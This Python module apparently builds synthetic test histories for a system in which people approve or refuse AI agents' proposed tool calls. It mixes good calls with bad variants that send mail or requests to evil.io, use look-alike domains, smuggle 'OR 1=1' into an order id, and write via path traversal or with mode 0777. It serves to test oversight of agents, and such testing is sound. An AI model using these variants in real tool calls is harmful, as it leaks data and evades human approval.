"""Histories of decisions, made up: good calls that people approved, and bad ones that differ from them in one argument.

They are to be hard on what learns from them: half of the ways in which calls go wrong in the second half are
ways that nobody has refused before.
"""

import random
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import Any

from signoff.asks.answers.similar_decisions import Decided, Fate
from signoff.policy.call import ProposedCall
from signoff.policy.risk import Assessment, Risk

Arguments = dict[str, Any]
WORDS = [
    "the",
    "quarterly",
    "numbers",
    "look",
    "fine",
    "please",
    "have",
    "another",
    "look",
    "before",
    "we",
    "send",
    "them",
    "to",
    "the",
    "team",
    "next",
    "week",
]
DECISIONS = 700
# How many of a hundred proposals are bad, and how many of the good ones people change or refuse all the same.
BAD, MOODY = 6, 1


@dataclass(frozen=True)
class Proposal:
    """One call, whether it is bad, and in which way."""

    agent: str
    tool: str
    arguments: Arguments
    plant: str | None = None

    def call(self) -> ProposedCall:
        return ProposedCall(
            self.tool,
            Assessment(Risk.HIGH, ()),
            arguments=self.arguments,
            agent=self.agent,
            schema={"type": "object"},
        )


class Work:
    """What one agent does with one tool: its usual places and amounts, and how it goes wrong."""

    def __init__(self, dice: random.Random, agent: str) -> None:
        self.dice, self.agent = dice, agent

    def prose(self) -> str:
        return " ".join(self.dice.choices(WORDS, k=self.dice.randint(3, 30))).capitalize() + "."

    def some(self, values: list[Any], least: int, most: int) -> list[Any]:
        return self.dice.sample(values, self.dice.randint(least, min(most, len(values))))

    tool = ""

    def good(self) -> Arguments:
        raise NotImplementedError

    def plants(self) -> dict[str, Callable[[Arguments], Arguments]]:
        """Ways to make a good call bad by one argument, each by its name."""
        raise NotImplementedError


class Posting(Work):
    tool = "send_message"

    def __init__(self, dice: random.Random, agent: str) -> None:
        super().__init__(dice, agent)
        self.channels = self.some(["#ops", "#sales", "#support", "#billing", "#dev", "#design", "#hiring"], 1, 4)

    def good(self) -> Arguments:
        return {"channel": self.dice.choice(self.channels), "text": self.prose()}

    def plants(self) -> dict[str, Callable[[Arguments], Arguments]]:
        return {
            "another channel": lambda it: it | {"channel": self.dice.choice(["#general", "#all-hands", "#press"])},
            "a channel that looks the same": lambda it: it | {"channel": disguised(it["channel"])},
            "calls everybody": lambda it: it | {"text": f"@everyone {it['text']}"},
            "in a thread of others": lambda it: it | {"thread_id": f"T{self.dice.randint(1, 999)}"},
            "several channels": lambda it: it | {"channel": [it["channel"], "#general"]},
        }


class Mailing(Work):
    tool = "send_email"

    def __init__(self, dice: random.Random, agent: str) -> None:
        super().__init__(dice, agent)
        names = ["ann", "ben", "cem", "dora", "eli", "fay", "gus", "hana", "ivo", "jan", "kim", "leo", "mia"]
        self.domain = dice.choice(["acme.com", "example.org", "northwind.io"])
        self.people = [f"{name}@{self.domain}" for name in self.some(names, 2, 9)]

    def good(self) -> Arguments:
        return {"to": self.dice.choice(self.people), "subject": self.prose()[:40], "body": self.prose()}

    def plants(self) -> dict[str, Callable[[Arguments], Arguments]]:
        return {
            "a stranger": lambda it: it | {"to": f"{self.dice.choice(['eve', 'ann'])}@{self.dice.choice(EVIL)}"},
            "everybody in the house": lambda it: it | {"to": f"everyone@{self.domain}"},
            "one more recipient": lambda it: it | {"to": f"{it['to']}, eve@evil.io"},
            "a name that looks like an address": lambda it: it | {"to": f'"{it["to"]}" <eve@evil.io>'},
            "a domain that goes on": lambda it: it | {"to": f"{it['to']}.evil.io"},
            "a blind copy": lambda it: it | {"bcc": "eve@evil.io"},
            "a domain in other letters": lambda it: it | {"to": disguised(it["to"])},
        }


def disguised(text: str) -> str:
    """The same to the eye."""
    letters = str.maketrans({"a": "\u0430", "e": "\u0435", "i": "\u0456", "o": "\u043e", "s": "\u0455"})
    return text.translate(letters)


EVIL = ["evil.io", "gmail.com", "acme.com.evil.io", "acme.co", "examp1e.org"]


class Refunding(Work):
    tool = "refund"

    def __init__(self, dice: random.Random, agent: str) -> None:
        super().__init__(dice, agent)
        self.most = dice.choice([50, 120, 400])
        self.currencies = self.some(["EUR", "USD", "GBP", "CHF"], 1, 2)

    def good(self) -> Arguments:
        amount = round(min(self.dice.expovariate(3 / self.most), self.most), 2)
        return {
            "order_id": f"ORD-{self.dice.randint(1000, 9999)}",
            "amount": max(amount, 0.5),
            "currency": self.dice.choice(self.currencies),
            "reason": self.prose(),
        }

    def plants(self) -> dict[str, Callable[[Arguments], Arguments]]:
        return {
            "too much": lambda it: it | {"amount": round(self.most * self.dice.uniform(1.2, 40), 2)},
            "a charge": lambda it: it | {"amount": -it["amount"]},
            "an amount in words": lambda it: it | {"amount": str(it["amount"])},
            "another currency": lambda it: it | {"currency": self.dice.choice(["BTC", "XAU", "eur"])},
            "to another account": lambda it: it | {"account": f"DE{self.dice.randint(10**6, 10**7)}"},
            "an order that is more than one": lambda it: it | {"order_id": f"{it['order_id']} OR 1=1"},
        }


class Filing(Work):
    tool = "write_file"

    def __init__(self, dice: random.Random, agent: str) -> None:
        super().__init__(dice, agent)
        top = dice.choice(["reports", "drafts", "notes"])
        years = self.some(["2023", "2024", "2025", "2026"], 1, 4)
        self.folders = [f"{top}/{year}" for year in years] if dice.random() < 0.7 else [top]
        self.ending = dice.choice(["md", "csv", "txt"])

    def good(self) -> Arguments:
        name = f"{self.dice.choice(WORDS)}-{self.dice.randint(1, 500)}.{self.ending}"
        return {"path": f"{self.dice.choice(self.folders)}/{name}", "content": self.prose(), "overwrite": False}

    def plants(self) -> dict[str, Callable[[Arguments], Arguments]]:
        home = self.folders[0]
        return {
            "another folder": lambda it: (
                it | {"path": f"{self.dice.choice(['contracts', 'payroll', 'etc'])}/x.{self.ending}"}
            ),
            "up and away": lambda it: it | {"path": f"{home}/../../secrets/x.{self.ending}"},
            "something to run": lambda it: it | {"path": f"{home}/x.sh"},
            "from the root": lambda it: it | {"path": f"/{home}/x.{self.ending}"},
            "a hidden file": lambda it: it | {"path": f"{home}/.profile.{self.ending}"},
            "over what is there": lambda it: it | {"overwrite": True},
            "with rights": lambda it: it | {"mode": "0777"},
        }


class Fetching(Work):
    tool = "call_api"

    def __init__(self, dice: random.Random, agent: str) -> None:
        super().__init__(dice, agent)
        self.hosts = self.some(["api.acme.com", "crm.acme.com", "shop.example.org"], 1, 2)
        self.folders = self.some(["v1/orders", "v1/customers", "v1/invoices", "v1/stock"], 1, 4)

    def good(self) -> Arguments:
        folder, host = self.dice.choice(self.folders), self.dice.choice(self.hosts)
        return {"url": f"https://{host}/{folder}/{self.dice.randint(1, 400)}", "method": "GET"}

    def plants(self) -> dict[str, Callable[[Arguments], Arguments]]:
        page = f"{self.folders[0]}/1"
        return {
            "another host": lambda it: it | {"url": f"https://{self.dice.choice(EVIL[:3])}/{page}"},
            "a host that goes on": lambda it: it | {"url": f"https://{self.hosts[0]}.evil.io/{page}"},
            "a user in the address": lambda it: it | {"url": f"https://{self.hosts[0]}@evil.io/{page}"},
            "not safe": lambda it: it | {"url": f"http://{self.hosts[0]}/{page}"},
            "where admins go": lambda it: it | {"url": f"https://{self.hosts[0]}/admin/users/1"},
            "with something to tell": lambda it: it | {"url": f"https://{self.hosts[0]}/{page}?note=secret"},
            "another method": lambda it: it | {"method": self.dice.choice(["DELETE", "POST"])},
            "with a body": lambda it: it | {"body": {"role": "admin"}},
        }


class Inviting(Work):
    tool = "create_event"

    def __init__(self, dice: random.Random, agent: str) -> None:
        super().__init__(dice, agent)
        self.people = [
            f"{name}@acme.com" for name in self.some(["ann", "ben", "cem", "dora", "eli", "fay", "gus"], 3, 6)
        ]
        self.rooms = self.some(["Oslo", "Rome", "Lima"], 1, 3)

    def good(self) -> Arguments:
        event = {
            "title": self.prose()[:30],
            "room": self.dice.choice(self.rooms),
            "minutes": self.dice.choice([15, 30, 60]),
        }
        return {"event": event, "attendees": self.some(self.people, 1, 3), "notify": self.dice.random() < 0.5}

    def plants(self) -> dict[str, Callable[[Arguments], Arguments]]:
        return {
            "a stranger among them": lambda it: it | {"attendees": [*it["attendees"][:1], "eve@evil.io"]},
            "the whole house": lambda it: it | {"attendees": it["attendees"][:1] * 40},
            "another room": lambda it: it | {"event": it["event"] | {"room": "Board"}},
            "for days": lambda it: it | {"event": it["event"] | {"minutes": 6000}},
            "a key with a dot": lambda it: it | {"event.room": "Board"},
            "open to all": lambda it: it | {"event": it["event"] | {"public": True}},
            "yes in words": lambda it: it | {"notify": "all"},
        }


class Booking(Work):
    """Few calls, and each of them different: there is nothing to learn."""

    tool = "book_room"

    def good(self) -> Arguments:
        return {"room": f"room {self.dice.randint(1, 40)} {self.dice.choice(WORDS)}", "guests": self.dice.randint(1, 9)}

    def plants(self) -> dict[str, Callable[[Arguments], Arguments]]:
        return {"too many": lambda it: it | {"guests": 900}}


OFFICE: list[type[Work]] = [Posting, Mailing, Refunding, Filing, Fetching, Inviting]


@dataclass(frozen=True)
class History:
    """What was decided, and what comes next."""

    first: list[Decided]
    second: list[Proposal]
    # The ways to go wrong, by agent, that were refused in the first half.
    known: frozenset[tuple[str, str]]


def history(seed: int, kinds: Sequence[type[Work]] = OFFICE, most: int = 2) -> History:
    """Several agents at work. Half of the ways to go wrong are seen in the first half, all of them in the second."""
    dice = random.Random(seed)
    agents = [(kind, number) for kind in kinds for number in range(dice.randint(1, most))]
    works = [kind(dice, f"{kind.__name__.lower()}-{number}") for kind, number in agents]
    weights = [dice.uniform(1, 4) for _ in works]
    rare = Booking(dice, "booking-0")
    known = {work.agent: _half(dice, list(work.plants())) for work in (*works, rare)}

    def propose(later: bool) -> Proposal:
        work = rare if dice.random() < 0.02 else dice.choices(works, weights)[0]
        arguments, ways = work.good(), work.plants()
        if dice.randrange(100) >= BAD:
            return Proposal(work.agent, work.tool, arguments)
        way = dice.choice(list(ways) if later else known[work.agent])
        return Proposal(work.agent, work.tool, ways[way](arguments), way)

    first = [_decided(dice, number, propose(later=False)) for number in range(DECISIONS // 2)]
    second = [propose(later=True) for _ in range(DECISIONS // 2)]
    return History(first, second, frozenset((agent, way) for agent, ways in known.items() for way in ways))


def _half(dice: random.Random, ways: list[str]) -> list[str]:
    return dice.sample(ways, max(1, len(ways) // 2))


def _decided(dice: random.Random, number: int, proposal: Proposal) -> Decided:
    """Whoever decided refused what is bad; now and then somebody refused or reworded what is good."""
    fate: Fate = "refused" if proposal.plant else "approved"
    approved: Arguments | None = None
    if fate == "approved" and dice.randrange(100) < MOODY:
        fate = dice.choice(["refused", "edited"])
        words = next((name for name in ("text", "body", "reason", "content") if name in proposal.arguments), None)
        fate = fate if words else "refused"
        approved = proposal.arguments | {words: "In other words."} if fate == "edited" and words else None
    return Decided(f"ask-{number}", proposal.tool, "ada@example.org", fate, proposal.call(), approved)
